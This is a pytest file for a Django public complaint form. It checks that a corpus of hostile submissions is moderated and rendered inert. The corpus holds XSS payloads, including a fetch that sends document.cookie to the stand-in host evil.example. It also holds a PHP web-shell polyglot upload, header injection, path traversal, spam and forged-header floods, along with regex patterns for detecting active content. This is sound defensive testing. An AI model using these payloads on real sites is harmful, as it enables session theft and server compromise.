"""A corpus of hostile submissions through the public form (acceptance 3).

For every case: no response is a server error, nothing reaches an office without a
moderator, no page (the complainant's status page, the moderator's and — after a
release — the officer's pages) renders active content, and a genuine complaint filed in
the same test from another client still arrives at the right office.
"""

from __future__ import annotations

import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from tests.complaints.conftest import jpeg_with_exif
from tests.complaints.support import GENUINE
from tuoyu.complaints.models import Complaint, Notification
from tuoyu.complaints.services import complaint_transition

pytestmark = pytest.mark.django_db

URL = "/complaints/"

_ACTIVE = [
    re.compile(r"<\s*(script|img|svg|iframe|object|embed|math|style)\b", re.I),
    re.compile(r"\b(href|src|action|formaction)\s*=\s*[\"']?\s*(javascript|data|vbscript|https?):", re.I),
    re.compile(r"<[^>]*\son[a-z]+\s*=", re.I),
]


def active_content(html: str) -> list[str]:
    """The active-content patterns found in ``html`` (empty when it is inert)."""
    return [p.pattern for p in _ACTIVE if p.search(html)]


def _file(name, data, content_type="image/jpeg"):
    return SimpleUploadedFile(name, data, content_type)


SPAM_LINKS = "澳门赌场 百家乐 真人娱乐 http://bet365.example.com 注册就送 http://vip888.example.top"

# (id, description, extra form fields, files factory, repeat, headers)
CORPUS = [
    ("script-tag", "孩子被打了<script>alert(document.cookie)</script>", {}, None, 1, {}),
    ("script-mixed-case", "<ScRiPt src=//evil.example/x.js></sCrIpT>老师打人", {}, None, 1, {}),
    ("img-onerror", '老师体罚<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">', {}, None, 1, {}),
    ("svg-onload", "<svg/onload=alert(1)>食堂不卫生", {}, None, 1, {}),
    ("iframe-js", '<iframe src="javascript:alert(1)"></iframe>收费不透明', {}, None, 1, {}),
    ("anchor-js", '<a href="javascript:alert(1)">点击查看证据</a>', {}, None, 1, {}),
    ("data-url", "证据见 data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", {}, None, 1, {}),
    ("body-onload", "<body onload=alert(1)>人员不足</body>", {}, None, 1, {}),
    ("attribute-breakout", '"><script>alert(1)</script><input value="', {}, None, 1, {}),
    ("entity-js", '<a href="jav&#x61;script:alert(1)">链接</a>', {}, None, 1, {}),
    ("markdown-js", "[详情](javascript:alert(1)) 老师不在岗", {}, None, 1, {}),
    ("vbscript", "vbscript:msgbox(1) 服务与公示不符", {}, None, 1, {}),
    ("style-expression", "<style>body{background:url(javascript:alert(1))}</style>", {}, None, 1, {}),
    ("gambling-links", SPAM_LINKS, {}, None, 1, {}),
    ("adult-links", "成人视频 约炮 裸聊 加微信 http://xx.example.cn/av", {}, None, 1, {}),
    ("traditional-gambling", "澳門賭場 網上賭博 六合彩 時時彩 www.bet.example.cc", {}, None, 1, {}),
    ("seo-domains", "托育 托育 优惠 a1.top b2.xyz c3.vip d4.cc e5.com 点击进入", {}, None, 1, {}),
    ("caps-link", "BEST CASINO BONUS CLICK NOW http://casino.example.com FREE SPINS", {}, None, 1, {}),
    ("repeated-text", "刷单日赚" * 30, {}, None, 1, {}),
    ("zero-width-split", "博\u200b彩 百\u200b家\u200b乐 注册送彩金 www.x.example.vip", {}, None, 1, {}),
    ("wechat-ad", "兼职日结 刷单 加v：abc123 贷款秒批", {}, None, 1, {}),
    ("oversized-file", GENUINE, {}, lambda: [_file("big.jpg", jpeg_with_exif(b"\x00" * (6 * 1024 * 1024)))], 1, {}),
    ("exe-as-jpg", GENUINE, {}, lambda: [_file("photo.jpg", b"MZ\x90\x00\x03" + b"\x00" * 200)], 1, {}),
    ("html-as-pdf", GENUINE, {}, lambda: [_file("r.pdf", b"<html><script>alert(1)</script>", "application/pdf")], 1, {}),
    ("svg-as-png", GENUINE, {}, lambda: [_file("p.png", b"<svg onload=alert(1)>", "image/png")], 1, {}),
    ("php-polyglot", GENUINE, {}, lambda: [_file("p.jpg", b"GIF89a<?php system($_GET['c']); ?>")], 1, {}),
    ("truncated-jpeg", GENUINE, {}, lambda: [_file("t.jpg", b"\xff\xd8\xff\xe1\xff\xff")], 1, {}),
    ("js-contact", GENUINE, {"contact": "javascript:alert(1)//@x"}, None, 1, {}),
    ("header-injection-contact", GENUINE, {"contact": "a@b.cn\r\nBcc: all@example.com"}, None, 1, {}),
    ("null-byte", "食堂\x00问题 <script>x</script>", {}, None, 1, {}),
    ("too-long", "很长" * 3000, {}, None, 1, {}),
    ("bad-target", GENUINE, {"target": "f:../../1"}, None, 1, {}),
    ("bad-category", GENUINE, {"category": "<script>"}, None, 1, {}),
    ("honeypot", GENUINE, {"website": "http://seo.example.com"}, None, 1, {}),
    ("flood-spam", SPAM_LINKS, {}, None, 15, {}),
    ("forged-xff-flood", SPAM_LINKS, {}, None, 15, {"xff": True}),
]


@pytest.fixture
def form_base(facility):
    def make(**extra):
        data = {"target": f"f:{facility.pk}", "category": "safety", "description": GENUINE,
                "consent": "on", "contact": ""}
        data.update(extra)
        return data

    return make


def _post(client, data, files, *, ip, xff=None):
    headers = {"REMOTE_ADDR": ip}
    if xff:
        headers["HTTP_X_FORWARDED_FOR"] = xff
    payload = dict(data)
    if files:
        payload["files"] = files
    return client.post(URL, payload, **headers)


@pytest.mark.parametrize(
    ("description", "extra", "files", "repeat", "headers"),
    [pytest.param(*case[1:], id=case[0]) for case in CORPUS],
)
def test_hostile_submission_is_contained(
    description, extra, files, repeat, headers, form_base, officers, facility, settings
):
    settings.TRUSTED_PROXIES = 1 if headers.get("xff") else 0
    client = Client()
    statuses = []
    for i in range(repeat):
        # A forged X-Forwarded-For: the attacker varies the left part; the proxy appends the real address.
        xff = f"10.9.{i}.{i}, 198.51.100.7" if headers.get("xff") else f"10.0.0.{i}"
        response = _post(client, form_base(description=description, **extra), files() if files else None,
                         ip="198.51.100.7" if not headers.get("xff") else "192.0.2.1", xff=xff)
        statuses.append(response.status_code)
        assert response.status_code < 500
        assert not active_content(response.content.decode())
    if repeat > 10:
        assert 429 in statuses
    hostile = list(Complaint.objects.all())
    assert all(c.status == "moderation" for c in hostile)
    assert not Notification.objects.exists()
    anonymous, moderator, officer = Client(), Client(), Client()
    moderator.force_login(officers["root"])
    officer.force_login(officers["hana"])
    for complaint in hostile:
        for page in (anonymous.get(f"/complaints/track/{complaint.tracking_code}/"),
                     moderator.get(f"/complaints/office/{complaint.pk}/"),
                     moderator.get("/complaints/moderation/")):
            assert page.status_code == 200 and not active_content(page.content.decode())
        released = complaint_transition(actor=officers["root"], complaint=complaint, action="release")
        for page in (officer.get(f"/complaints/office/{released.pk}/"), officer.get("/complaints/office/")):
            assert page.status_code == 200 and not active_content(page.content.decode())
    genuine = _post(Client(), form_base(category="hygiene_food",
                                        description="午餐的饭菜经常是凉的，孩子回家说吃不饱。"),
                    [_file("lunch.jpg", jpeg_with_exif())], ip="203.0.113.50")
    assert genuine.status_code == 302
    arrived = Complaint.objects.get(category="hygiene_food")
    assert arrived.status == "received" and arrived.notifications.filter(recipient=officers["hana"]).exists()


def test_corpus_has_at_least_thirty_cases():
    assert len(CORPUS) >= 30


@pytest.mark.parametrize("html", ['<img src=x onerror=alert(1)>', '<a href="javascript:x">', "<script>x</script>",
                                  '<a href="http://spam.example.com">'])
def test_active_content_check_detects_raw_payload(html):
    assert active_content(html)


def test_flood_of_identical_genuine_looking_posts_reaches_office_once(form_base, officers):
    client = Client()
    for i in range(8):
        client.post(URL, form_base(), REMOTE_ADDR=f"192.0.2.{i + 10}")
    assert Complaint.objects.exclude(status="moderation").count() == 1
